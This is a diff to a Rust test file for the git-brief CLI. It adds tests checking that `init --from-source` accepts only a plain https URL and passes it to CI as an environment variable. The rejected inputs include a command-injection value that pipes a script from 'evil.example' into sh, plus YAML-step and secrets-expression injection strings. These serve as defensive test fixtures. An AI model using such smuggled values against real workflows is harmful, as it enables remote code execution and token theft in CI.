@@ -4,6 +4,8 @@
 //! whole history, the right flags, one sticky pull-request comment, no
 //! script injection, and release archives that cargo-binstall finds.
 
+mod common;
+
 use std::path::Path;
 
 use git_brief::cli::init::Install;
@@ -450,7 +452,43 @@ fn init_workflows_install_git_brief_from_crates_io_once_per_version() {
     let source =
         git_brief::cli::init::rendered("brief.yml", &Install::Source("https://example.com/fork.git".into()))
             .unwrap();
-    assert!(source.contains("run: cargo install --locked --git https://example.com/fork.git git-brief"));
+    // The URL reaches the shell as a variable, never as script text.
+    let doc = YamlLoader::load_from_str(&source).unwrap().remove(0);
+    let job = &doc["jobs"]["brief"];
+    let (_, install) = find_step(job, |s| str_of(s, "name") == "Install git-brief").expect("an install step");
+    assert_eq!(str_of(&install["env"], "GIT_BRIEF_SOURCE"), "https://example.com/fork.git");
+    assert_eq!(run(install), "cargo install --locked --git \"$GIT_BRIEF_SOURCE\" git-brief");
+}
+
+// Item 15 of the third hardening round: `init --from-source` writes its URL
+// into YAML and shell lines that CI runs with the job's token.
+#[test]
+fn init_takes_only_a_plain_https_url_from_source() {
+    let repo = common::Repo::new();
+    repo.commit("chore: start", "2026-11-09T09:00:00Z");
+    for url in [
+        "https://example.com/x.git; curl -s https://evil.example/p | sh #",
+        "https://example.com/${{ secrets.GITHUB_TOKEN }}.git",
+        "",
+        "https://example.com/x.git\n      - name: injected step\n        run: echo injected",
+        "http://example.com/x.git",
+        "https://",
+        "https://example.com/it's.git",
+    ] {
+        let out = repo.brief_command(&["init", "--from-source", url]).output().unwrap();
+        assert_eq!(out.status.code(), Some(2), "{url:?}");
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(stderr.lines().count(), 1, "{url:?}: {stderr}");
+        assert!(stderr.contains("--from-source") && stderr.contains("https URL"), "{stderr}");
+        assert!(!repo.path.join(".github").exists(), "{url:?}: nothing written");
+    }
+    let out = repo
+        .brief_command(&["init", "--from-source", "https://example.com/team/git-brief.git"])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let weekly = std::fs::read_to_string(repo.path.join(".github/workflows/brief.yml")).unwrap();
+    assert!(weekly.contains("GIT_BRIEF_SOURCE: 'https://example.com/team/git-brief.git'"), "{weekly}");
 }
 
 // ---------------------------------------------------------------- weekly
